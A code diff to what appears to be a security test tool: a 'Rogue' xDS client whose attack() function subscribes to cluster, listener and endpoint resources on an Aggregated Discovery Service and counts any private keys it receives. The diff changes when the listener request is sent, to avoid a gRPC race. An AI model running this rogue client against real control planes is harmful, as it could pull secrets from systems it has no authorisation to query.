@@ -44,6 +44,7 @@ class Rogue:
         self.private_keys = 0
         self.nacks_sent = 0
         self.first = True
+        self.asked: set[str] = set()
 
     def send(self, type_url: str, **fields: Any) -> None:
         req = discovery_pb2.DeltaDiscoveryRequest(type_url=type_url, **fields)
@@ -67,6 +68,11 @@ class Rogue:
             self.nacks_sent += 1
         else:
             self.send(resp.type_url, response_nonce=resp.nonce)
+        if resp.type_url == CLUSTER and LISTENER not in self.asked:
+            # Only now: a write racing the server's refusal would hide its status (gRPC
+            # Python aio reports INTERNAL then, grpc/grpc#36066).
+            self.asked.add(LISTENER)
+            self.send(LISTENER)
         if resp.type_url == CLUSTER and resp.resources:
             self.send(ENDPOINT, resource_names_subscribe=[r.name for r in resp.resources])
         if resp.type_url == LISTENER:
@@ -108,7 +114,6 @@ def _referenced(resp: discovery_pb2.DeltaDiscoveryResponse) -> tuple[set[str], s
 async def attack(target: str, node: str, quote: str, seconds: float) -> dict[str, Any]:
     rogue = Rogue(node, quote)
     rogue.send(CLUSTER)
-    rogue.send(LISTENER)
     ended = "still open"
     async with grpc.aio.insecure_channel(target) as channel:
         stub = ads_pb2_grpc.AggregatedDiscoveryServiceStub(channel)
